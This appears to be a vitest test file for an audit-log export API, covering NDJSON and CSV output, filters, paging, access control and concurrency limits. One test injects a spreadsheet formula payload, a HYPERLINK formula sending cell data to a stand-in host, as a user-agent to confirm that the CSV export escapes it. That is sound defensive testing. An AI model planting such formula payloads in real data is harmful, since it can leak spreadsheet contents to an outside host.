import { v7 } from 'uuid';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { eventLoopTurns, eventually } from '../../../support/clock.ts';
import type { HttpService } from '../../../support/http-service.ts';
import { makeTestTenant, startHttpServiceOnDatabase, type TestTenant } from '../../../support/test-tenant.ts';

let service: HttpService;
let mine: TestTenant;
beforeAll(async () => {
  service = await startHttpServiceOnDatabase();
});
beforeEach(async () => {
  mine = await makeTestTenant(service);
});
afterAll(() => service.close());

async function download(query: string, token = mine.tokens.owner) {
  const response = await fetch(`${service.url}/v1/audit/export${query}`, {
    headers: { authorization: `Bearer ${token}` },
  });
  return { status: response.status, headers: response.headers, text: await response.text() };
}
const entries = async (query = ''): Promise<object[]> =>
  (await mine.call('GET', `/audit?limit=200${query}`)).body.entries;
const rowsOf = (text: string) => text.split('\r\n').slice(0, -1);

/** Adds rows directly, with the given client. */
const append = (count: number, client: string | null = null) =>
  service.store.audit.append(
    Array.from({ length: count }, () => ({
      ...{ id: v7(), tenantId: mine.tenantId, at: service.clock.now(), by: mine.userId, key: null, via: 'rest' },
      ...{ action: 'createHome', subject: 'home:1', outcome: 'done', requestId: v7(), address: null, client, count: 1 },
    })),
  );

it('as NDJSON has the entries of the list, one a line', async () => {
  await mine.register();
  await mine.call('POST', '/homes', { home_name: 'Cabin' });
  const { status, headers, text } = await download('');
  expect(status).toBe(200);
  expect(headers.get('content-type')).toBe('application/x-ndjson');
  expect(headers.get('content-disposition')).toMatch(/^attachment; filename="audit-\d{4}-\d\d-\d\d\.ndjson"$/);
  expect(headers.get('cache-control')).toBe('no-store');
  expect(text.endsWith('\n')).toBe(true);
  expect(
    text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line)),
  ).toEqual(await entries());
});

it('as CSV has a header, and nothing that a spreadsheet takes for a formula', async () => {
  const agent = '=HYPERLINK("http://192.0.2.1/?"&A1)';
  await mine.call('POST', '/homes', { home_name: 'Cabin' }, { headers: { 'user-agent': agent } });
  await append(1, '@SUM(1)');
  const { headers, text } = await download('?format=csv');
  expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
  const [header, ...rows] = rowsOf(text);
  expect(header).toBe(
    '"at","by","key","via","action","subject","outcome","request_id","address","client","count","subject_name"',
  );
  expect(rows).toHaveLength((await entries()).length);
  expect(text).toContain(`,"127.0.0.1","'=HYPERLINK(""http://192.0.2.1/?""&A1)",1,"Cabin"\r\n`);
  expect(text).toContain(`,,"'@SUM(1)",1,\r\n`);
});

it('has a range of time and the filters of the list', async () => {
  await mine.call('POST', '/homes', { home_name: 'Before' });
  service.clock.advance(1_000);
  const from = new Date(service.clock.now()).toISOString();
  await mine.call('POST', '/homes', { home_name: 'Within' });
  service.clock.advance(1_000);
  const to = new Date(service.clock.now()).toISOString();
  await mine.call('POST', '/homes', { home_name: 'After' });
  const lines = (text: string) =>
    text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
  expect(lines((await download(`?from=${from}&to=${to}`)).text)).toEqual(await entries(`&from=${from}&to=${to}`));
  expect(lines((await download(`?from=${from}`)).text)).toHaveLength(2);
  expect(rowsOf((await download(`?format=csv&action=deleteHome`)).text)).toHaveLength(1);
  expect((await download('?action=deleteHome')).text).toBe('');
  expect((await download('?from=yesterday')).status).toBe(400);
});

it('reads pages while the client takes them, each entry once', async () => {
  await append(1_300);
  const { list } = service.store.audit;
  const limits: number[] = [];
  service.store.audit.list = (...args) => {
    limits.push(args[2]);
    return list(...args);
  };
  const { text } = await download('');
  service.store.audit.list = list;
  const ids = text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line).request_id);
  expect(new Set(ids).size).toBe(ids.length);
  expect(ids.length).toBeGreaterThan(1_300);
  expect(limits.length).toBeGreaterThanOrEqual(3);
  expect(Math.max(...limits)).toBe(500);
});

it('that fails after its beginning is cut off, so that the client sees it', async () => {
  await append(700);
  const { list } = service.store.audit;
  let pages = 0;
  service.store.audit.list = async (...args) => {
    if (pages++ > 0) throw new Error('the database is gone');
    return list(...args);
  };
  await expect(download('')).rejects.toThrow();
  service.store.audit.list = async () => {
    throw new Error('the database is gone');
  };
  const refused = await download('');
  service.store.audit.list = list;
  expect(refused.status).toBe(500);
  expect(refused.text).not.toContain('database');
});

it('is for admins, and for platform operators, whose download is audited', async () => {
  expect((await download('', mine.tokens.user)).status).toBe(403);
  const operator = await service.token(v7(), { scope: 'platform:admin' });
  const { status, text } = await download(`?tenant_id=${mine.tenantId}`, operator);
  expect(status).toBe(200);
  expect(text).toContain(mine.userId);
  expect(await entries('&action=exportAudit')).toMatchObject([{ outcome: 'done' }, { outcome: 'FORBIDDEN_ROLE' }]);
});

it('answers HEAD without a body', async () => {
  const response = await fetch(`${service.url}/v1/audit/export`, {
    method: 'HEAD',
    headers: { authorization: `Bearer ${mine.tokens.owner}` },
  });
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('application/x-ndjson');
});

it('ends when the client has closed the connection, also while nothing matches', async () => {
  const { list } = service.store.audit;
  let pages = 0;
  service.store.audit.list = async (_tenantId, _filter, _limit, after) => {
    pages += 1;
    await eventLoopTurns(1);
    return { items: [], next: after ?? { createdAt: 1, id: v7() }, positions: () => [], count: async () => null };
  };
  const client = new AbortController();
  const { body } = await fetch(`${service.url}/v1/audit/export?action=deleteHome`, {
    headers: { authorization: `Bearer ${mine.tokens.owner}` },
    signal: client.signal,
  });
  const reading = expect(body?.getReader().read()).rejects.toThrow();
  await eventually(() => pages > 10);
  client.abort();
  await reading;
  await eventually(() => service.services.auditExports.sizes().audit_exports === 0);
  const after = pages;
  await eventLoopTurns();
  expect(pages).toBe(after);
  service.store.audit.list = list;
});

it('runs twice at the same time for a tenant, and eight times on a node', async () => {
  const { list } = service.store.audit;
  const held: (() => void)[] = [];
  service.store.audit.list = async (...args) => {
    await new Promise<void>((resolve) => held.push(resolve));
    return list(...args);
  };
  const others = [await makeTestTenant(service), await makeTestTenant(service), await makeTestTenant(service)];
  const running = [mine, ...others].flatMap(({ tokens: { owner } }) => [download('', owner), download('', owner)]);
  await eventually(() => held.length === 8);
  const third = await download('');
  const fifthTenant = await makeTestTenant(service);
  const ninth = await download('', fifthTenant.tokens.owner);
  service.store.audit.list = list;
  for (const release of held) release();
  expect((await Promise.all(running)).map(({ status }) => status)).toEqual(Array(8).fill(200));
  expect(third.status).toBe(429);
  expect(JSON.parse(third.text)).toMatchObject({
    code: 'RATE_LIMIT_EXCEEDED',
    detail: 'The limit of simultaneous audit exports of this tenant is 2. Wait until one has ended.',
  });
  expect(third.headers.get('retry-after')).toBe('10');
  expect(ninth.status).toBe(503);
  expect(JSON.parse(ninth.text)).toMatchObject({
    code: 'OVERLOADED',
    detail: 'The limit of simultaneous audit exports of a node is 8. Retry later.',
  });
  expect((await download('')).status).toBe(200);
});
